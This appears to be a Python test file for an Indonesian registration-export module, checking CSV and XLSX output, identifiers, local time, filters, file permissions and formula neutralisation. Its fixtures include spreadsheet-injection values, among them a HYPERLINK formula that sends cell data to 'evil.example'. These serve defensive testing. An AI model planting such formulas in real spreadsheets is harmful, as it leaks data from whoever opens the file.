"""Registration exports: CSV and XLSX read back, spreadsheet safety, permissions, filters."""

import csv
import re
import stat
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from desk.export import COLUMNS, ExportFilters, export_csv, export_xlsx, filter_records


def registration(n: int, **fields: Any) -> dict[str, Any]:
    """A registration record shaped like the registration repository's."""
    record: dict[str, Any] = {
        "reg_no": f"SRG-2026-{n:06d}",
        "user_id": 1000 + n,
        "chat_id": 1000 + n,
        "full_name": f"Warga {n}",
        "nik": f"36730141019{n:05d}",
        "phone": f"+628123456{n:04d}",
        "kecamatan": "cipocok_jaya",
        "kelurahan": "karundang",
        "domicile_confirmed": True,
        "programmes": ["korea_work"],
        "training_willing": True,
        "email": None,
        "screening": {"eps_korea": "eligible"},
        "status": "baru",
        "status_reason": None,
        "notes": [],
        "history": [],
        "created_at": "2026-11-27T18:30:00+00:00",
        "updated_at": "2026-11-27T18:30:00+00:00",
    }
    record.update(fields)
    return record


RECORDS = [
    registration(1, full_name="Ñoman Śaputra", kecamatan="serang", kelurahan="sukawana"),
    registration(2, full_name="Siti Nur'aini", kecamatan="curug", kelurahan="sukawana"),
    registration(
        3,
        full_name="Dede Rohéndi",
        programmes=["japan_work", "scholarship"],
        screening={"ssw_japan": "needs_preparation", "gks_undergrad": "not_eligible"},
        training_willing=False,
        email="dede@example.id",
        status="tidak_lanjut",
        status_reason="-pindah ke Cilegon",
        notes=[{"at": "x", "by": 42, "text": "first"}, {"at": "y", "by": 42, "text": "last"}],
    ),
    registration(4, full_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
    registration(5, full_name="@SUM(1+1)", screening=None, programmes=[], training_willing=None),
]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(header) == len(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=True)) for row in body]


def test_csv_has_every_registration_with_utf8_bom(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    seen: list[int] = []
    assert export_csv(RECORDS, path, progress=seen.append) == len(RECORDS)
    assert seen == [1, 2, 3, 4, 5]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert [row["reg_no"] for row in rows] == [r["reg_no"] for r in RECORDS]
    header = path.read_text(encoding="utf-8-sig").splitlines()[0]
    # Every field quoted, the header too (QUOTE_ALL: a separator inside a cell stays inside).
    assert header.startswith('"No. Registrasi","Tanggal daftar (WIB)","Nama lengkap","NIK"')


def test_csv_keeps_nik_and_phone_exact_as_text(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    # Exactly as stored: no TAB or apostrophe marker any more (the field is quoted text).
    assert rows[0]["nik"] == "3673014101900001"
    assert rows[0]["phone"] == "+6281234560001"
    for row, record in zip(rows, RECORDS, strict=True):
        assert re.fullmatch(r"\d{16}", row["nik"]) and row["nik"] == record["nik"]
        assert row["phone"] == record["phone"]
    line = path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert '"3673014101900001","+6281234560001"' in line


def test_csv_labels_local_time_and_indonesian_characters(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    assert [row["full_name"] for row in rows[:3]] == [
        "Ñoman Śaputra",
        "Siti Nur'aini",
        "Dede Rohéndi",
    ]
    assert rows[0]["created_at"] == "2026-11-28 01:30"  # 18:30 UTC is 01:30 WIB the next day
    assert (rows[0]["kecamatan"], rows[0]["kelurahan"]) == ("Serang", "Sukawana")
    assert (rows[1]["kecamatan"], rows[1]["kelurahan"]) == ("Curug", "Sukawana")
    third = rows[2]
    assert third["programmes"] == "Kerja ke Jepang, Beasiswa"
    assert third["screening"] == "SSW Jepang: perlu persiapan; GKS S1: belum memenuhi syarat"
    assert third["training_willing"] == "Tidak"
    assert third["status"] == "6. tidak lanjut"  # numbered: a sort keeps the pipeline order
    assert third["last_note"] == "last"
    assert third["email"] == "dede@example.id"
    assert rows[4]["training_willing"] == rows[4]["screening"] == ""


def test_csv_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS, path)
    rows = read_csv(path)
    assert rows[3]["full_name"] == "'" + RECORDS[3]["full_name"]
    assert rows[4]["full_name"] == "'@SUM(1+1)"
    assert rows[2]["status_reason"] == "'-pindah ke Cilegon"
    for row in rows:
        for column, value in row.items():
            if column not in ("nik", "phone"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_english_headers_and_labels(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv(RECORDS[2:3], path, lang="en")
    text = path.read_text(encoding="utf-8-sig")
    assert text.startswith('"Reg. no.","Registered (WIB)","Full name"')
    assert "SSW Japan: needs preparation; GKS undergraduate: not yet eligible" in text


def test_xlsx_read_back(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    assert export_xlsx(RECORDS, path) == len(RECORDS)
    ws = load_workbook(path).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:4] == ("No. Registrasi", "Tanggal daftar (WIB)", "Nama lengkap", "NIK")
    assert [row[0] for row in rows[1:]] == [r["reg_no"] for r in RECORDS]
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["nik"] == "3673014101900001"
    assert first["phone"] == "+6281234560001"
    assert first["created_at"] == datetime(2026, 11, 28, 1, 30)
    assert [row[2] for row in rows[1:4]] == ["Ñoman Śaputra", "Siti Nur'aini", "Dede Rohéndi"]
    assert rows[4][2] == "'" + RECORDS[3]["full_name"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:S6"
    nik_cell, phone_cell, date_cell = ws["D2"], ws["E2"], ws["B2"]
    assert (nik_cell.data_type, nik_cell.number_format) == ("s", "@")
    assert (phone_cell.data_type, phone_cell.number_format) == ("s", "@")
    assert date_cell.is_date and date_cell.number_format == "dd-mm-yyyy hh:mm"
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    assert ws.column_dimensions["C"].width >= 20


def split_quoted(line: str, separator: str) -> list[str]:
    """A spreadsheet's reading of one CSV line with ``separator``: a separator inside quotes
    (which toggle at every ``"``, ``""`` being a quote inside them) does not split."""
    cells, current, quoted = [], [], False
    for char in line:
        if char == '"':
            quoted = not quoted
        elif char == separator and not quoted:
            cells.append("".join(current))
            current = []
            continue
        current.append(char)
    cells.append("".join(current))
    return [cell[1:-1].replace('""', '"') if cell.startswith('"') else cell for cell in cells]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_makes_a_formula_cell(tmp_path: Path, separator: str) -> None:
    """Indonesian Excel reads a CSV with ";": every field is quoted, so a note holding the
    separator stays one cell; only a cell that itself begins with a trigger is neutralised."""
    note = f"catatan{separator}=1+1"
    record = registration(9, notes=[{"at": "x", "by": 42, "text": note}])
    path = tmp_path / "leads.csv"
    export_csv([*RECORDS, record], path)
    for line in path.read_text(encoding="utf-8-sig").splitlines()[1:]:
        for cell in split_quoted(line, separator):
            if re.fullmatch(r"\+\d+", cell):
                continue  # a phone exactly as stored: a number, never a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (line, cell)
    assert read_csv(path)[-1]["last_note"] == note  # not neutralised: it begins with "c"


@pytest.mark.parametrize("export", [export_csv, export_xlsx])
def test_files_are_private(tmp_path: Path, export: Any) -> None:
    path = tmp_path / "leads.out"
    path.write_text("old")
    path.chmod(0o644)
    export(RECORDS, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_filters() -> None:
    records = [
        registration(1, created_at="2026-11-01T00:00:00+00:00"),
        registration(2, kecamatan="kasemen", status="dihubungi"),
        registration(3, programmes=["japan_work"], screening={"ssw_japan": "needs_medical_check"}),
        registration(4, created_at="2026-11-30T17:30:00+00:00"),  # 1 Dec in Jakarta
    ]

    def reg_numbers(**kwargs: Any) -> list[int]:
        found = filter_records(records, ExportFilters(**kwargs))
        return [int(record["reg_no"][-3:]) for record in found]

    assert reg_numbers() == [1, 2, 3, 4]
    assert reg_numbers(kecamatan="kasemen") == [2]
    assert reg_numbers(status="baru") == [1, 3, 4]
    assert reg_numbers(programme="japan_work") == [3]
    assert reg_numbers(programme="eps_korea") == [1, 2, 4]
    assert reg_numbers(outcome="needs_medical_check") == [3]
    assert reg_numbers(programme="eps_korea", outcome="needs_medical_check") == []
    # an interest has no outcome of its own: any outcome counts, as in the lead list and exports
    assert reg_numbers(programme="japan_work", outcome="needs_medical_check") == [3]
    assert reg_numbers(since=date(2026, 11, 2)) == [2, 3, 4]
    assert reg_numbers(until=date(2026, 11, 30)) == [1, 2, 3]
    assert reg_numbers(since=date(2026, 12, 1), until=date(2026, 12, 1)) == [4]


# -- what staff and other systems read back ------------------------------------------------------

TODAY = date(2026, 12, 2)
NAMES = {900: "Bu Rina"}
NASTY_NOTE = 'baris satu\r\nbaris dua;\ttab, koma "kutip"\rbaris tiga 😀 ' + "panjang " * 30
NASTY = [
    registration(
        20,
        full_name='Siti\tAminah; "Ani", Dewi',
        phone="081234567890",
        notes=[{"at": "x", "by": 900, "text": NASTY_NOTE}],
        contacts=[
            {"at": "2026-11-30T02:00:00+00:00", "by": 900, "outcome": "no_answer"},
            {"at": "2026-12-01T03:00:00+00:00", "by": 901, "outcome": "call_back"},
        ],
        assigned_to=900,
        next_follow_up="2026-12-05",
        status="dihubungi",
    ),
    registration(21, full_name="-Dede", notes=[{"at": "x", "by": 1, "text": "=1+1"}]),
    registration(
        22,
        full_name="@Agus",
        notes=[{"at": "x", "by": 1, "text": "\tdiawali tab"}],
        status="tidak_lanjut",
        status_reason="other",
        status_reason_text="Pindah;\tkota",
        assigned_to=777,
    ),
    registration(23, full_name="+Rina", phone="+6281299990000", status_reason="Tidak minat"),
    registration(24, full_name="Nur 😀 Aini", notes=[{"at": "x", "by": 1, "text": "\rawal CR"}]),
]
EXPECTED_NAMES = [
    'Siti\tAminah; "Ani", Dewi',
    "'-Dede",
    "'@Agus",
    "'+Rina",
    "Nur 😀 Aini",
]


def test_csv_reads_back_exact_identifiers_with_nasty_text(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv([*RECORDS, *NASTY], path, names=NAMES, today=TODAY)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert len(rows) == len(RECORDS) + len(NASTY)
    for row, record in zip(rows, [*RECORDS, *NASTY], strict=True):
        assert row["nik"] == record["nik"] and re.fullmatch(r"\d{16}", row["nik"])
        assert row["phone"] == record["phone"]  # no TAB, apostrophe or "=" before it
    nasty = rows[len(RECORDS) :]
    assert [row["full_name"] for row in nasty] == EXPECTED_NAMES
    assert nasty[0]["phone"] == "081234567890"
    # Line breaks inside a field are LF, kept inside the quotes; tabs and quotes stay as typed.
    assert nasty[0]["last_note"] == NASTY_NOTE.replace("\r\n", "\n").replace("\r", "\n")
    assert nasty[1]["last_note"] == "'=1+1"
    assert nasty[2]["last_note"] == "'\tdiawali tab"
    assert nasty[4]["last_note"] == "\nawal CR"  # CR became LF: no longer a trigger


def test_csv_quotes_every_field_so_no_separator_splits_a_row(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    export_csv([*RECORDS, *NASTY], path, names=NAMES, today=TODAY)
    content = path.read_bytes().decode("utf-8-sig")  # no newline translation
    records = content.split("\r\n")  # the record terminator; a field's line break is a bare LF
    assert records[-1] == ""
    for line in records[:-1]:
        assert line.startswith('"') and line.endswith('"'), line
        # With Tab, Comma and Semicolon all separators (LibreOffice's first-run import), a
        # quote-aware reader finds exactly the header's columns.
        cells = [line]
        for separator in "\t,;":
            cells = [part for cell in cells for part in split_quoted_raw(cell, separator)]
        assert len(cells) == len(COLUMNS), line


def split_quoted_raw(text: str, separator: str) -> list[str]:
    """Split on ``separator`` outside quotes, keeping the quotes (to split again)."""
    parts, current, quoted = [], [], False
    for char in text:
        if char == '"':
            quoted = not quoted
        if char == separator and not quoted:
            parts.append("".join(current))
            current = []
        else:
            current.append(char)
    parts.append("".join(current))
    return parts


def test_new_columns_in_both_formats(tmp_path: Path) -> None:
    csv_path, xlsx_path = tmp_path / "leads.csv", tmp_path / "leads.xlsx"
    export_csv(NASTY, csv_path, names=NAMES, today=TODAY)
    export_xlsx(NASTY, xlsx_path, names=NAMES, today=TODAY)
    first, _, third, fourth, _ = read_csv(csv_path)
    assert (first["assigned_to"], first["attempts"]) == ("Bu Rina", "2")
    assert first["last_contact"] == "2026-12-01 10:00"  # 03:00 UTC is 10:00 WIB
    assert first["next_follow_up"] == "2026-12-05"
    assert first["age_days"] == "4"  # registered 28 Nov (WIB), today 2 Dec
    assert first["status"] == "2. sudah dihubungi"
    assert (third["assigned_to"], third["attempts"]) == ("777", "0")  # no name: the id
    assert third["status_reason"] == "Pindah;\tkota"  # "other": the typed text
    assert fourth["status_reason"] == "Tidak minat"  # an old record's label, shown as it is
    assert fourth["assigned_to"] == fourth["last_contact"] == fourth["next_follow_up"] == ""

    ws = load_workbook(xlsx_path).active
    assert ws is not None
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in ws.iter_rows(values_only=True)]
    assert rows[1]["assigned_to"] == "Bu Rina" and rows[1]["attempts"] == 2
    assert rows[1]["last_contact"] == datetime(2026, 12, 1, 10, 0)
    assert rows[1]["next_follow_up"] == datetime(2026, 12, 5)  # a real date cell
    assert rows[1]["age_days"] == 4
    assert ws["Q2"].number_format == "dd-mm-yyyy" and ws["Q2"].is_date
    assert rows[4]["attempts"] == 0 and rows[4]["last_contact"] is None


def test_xlsx_reads_back_exact_identifiers_with_nasty_text(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    export_xlsx([*RECORDS, *NASTY], path, names=NAMES, today=TODAY)
    ws = load_workbook(path).active
    assert ws is not None
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in ws.iter_rows(values_only=True)]
    for row, record in zip(rows[1:], [*RECORDS, *NASTY], strict=True):
        assert row["nik"] == record["nik"] and row["phone"] == record["phone"]
    nasty = rows[1 + len(RECORDS) :]
    assert [row["full_name"] for row in nasty] == EXPECTED_NAMES
    assert nasty[0]["last_note"] == NASTY_NOTE.replace("\r\n", "\n").replace("\r", "\n")
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


def test_xlsx_layout_for_screens_and_paper(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    export_xlsx([*RECORDS, *NASTY], path, names=NAMES, today=TODAY)
    ws = load_workbook(path).active
    assert ws is not None
    # Printing: landscape A4, one page wide, as many down as needed, the header on each page.
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.print_title_rows == "$1:$1"
    assert "02-12-2026" in ws.oddHeader.left.text and "&P" in ws.oddFooter.right.text
    # Screens: a frozen, filterable, wrapped header whose words fit their columns.
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:S{len(RECORDS) + 6}"
    for cell in ws[1]:
        width = ws.column_dimensions[cell.column_letter].width
        assert max(len(word) for word in str(cell.value).split()) <= width, cell.value
        assert cell.alignment.wrap_text and cell.font.b
    assert ws.row_dimensions[1].height >= 30
    # Notes wrap at the top of tall enough rows; short rows keep the default height.
    note_column = get_column_letter(COLUMNS.index("last_note") + 1)
    long_note_row = len(RECORDS) + 2
    note = ws[f"{note_column}{long_note_row}"]
    assert note.alignment.wrap_text and note.alignment.vertical == "top"
    assert ws.row_dimensions[long_note_row].height >= 15 * 8
    assert ws.row_dimensions[6].height in (None, 15)  # one line: no screening, short texts
    assert ws.column_dimensions[note_column].width >= 35


def test_status_filter_lists_the_pipeline_in_order(tmp_path: Path) -> None:
    statuses = ["tidak_lanjut", "berangkat", "baru", "lulus_pelatihan", "dihubungi"]
    records = [registration(30 + i, status=s) for i, s in enumerate(statuses)]
    path = tmp_path / "leads.xlsx"
    export_xlsx(records, path, today=TODAY)
    ws = load_workbook(path).active
    assert ws is not None
    column = COLUMNS.index("status")
    values = sorted(row[column] for row in ws.iter_rows(min_row=2, values_only=True))
    assert values == [
        "1. baru",
        "2. sudah dihubungi",
        "4. lulus pelatihan",
        "5. berangkat",
        "6. tidak lanjut",
    ]
